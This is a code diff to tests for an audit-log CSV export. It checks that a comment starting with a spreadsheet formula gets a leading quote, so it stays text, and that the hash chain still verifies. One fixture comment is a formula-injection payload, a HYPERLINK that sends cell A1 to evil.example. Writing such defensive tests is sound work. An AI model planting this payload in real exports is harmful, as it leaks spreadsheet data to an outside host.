@@ -42,6 +42,7 @@ def recomputed_hash(row: dict[str, str]) -> str:
     def number_or_null(cell: str) -> int | None:
         return None if cell == "" else int(cell)
 
+    row = {key: value[1:] if value.startswith("'") else value for key, value in row.items()}
     payload = {key: value for key, value in row.items() if key != "hash"}
     payload["seq"] = int(row["seq"])
     payload["actor_id"] = number_or_null(row["actor_id"])
@@ -73,6 +74,13 @@ def history(maker, checker):
     services.version_reject(
         actor=checker, version=other, comment='Too high, "by far".\nSee the café memo.'
     )
+    # Text a spreadsheet would run as a formula, and text that starts with a quote already.
+    formula = note_version(maker=maker, checker=checker, status=VersionStatus.SUBMITTED, name="x")
+    services.version_reject(
+        actor=checker, version=formula, comment='=HYPERLINK("https://evil.example/?"&A1,"ok")'
+    )
+    quoted = note_version(maker=maker, checker=checker, status=VersionStatus.SUBMITTED, name="y")
+    services.version_reject(actor=checker, version=quoted, comment="'quoted' as it was")
     return rules, other
 
 
@@ -89,6 +97,14 @@ def test_an_examiner_checks_the_whole_trail_without_arbiter(history, auditor):
     assert (rejected["item_name"], rejected["version_number"]) == ("fees", "1")
     created = next(r for r in rows if r["action"] == "create")
     assert json.loads(created["details"]) == {"new_item": True}
+
+
+def test_cells_a_spreadsheet_would_run_are_text_and_still_verify(history, auditor):
+    _, rows = download(api(auditor), "/api/v1/audit/events/?format=csv")
+    comments = [row["comment"] for row in rows if row["action"] == "reject"]
+    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")" in comments
+    assert "''quoted' as it was" in comments
+    assert chain_problems(rows) == []  # the recipe removes the one quote before hashing
 
 
 @pytest.mark.parametrize(
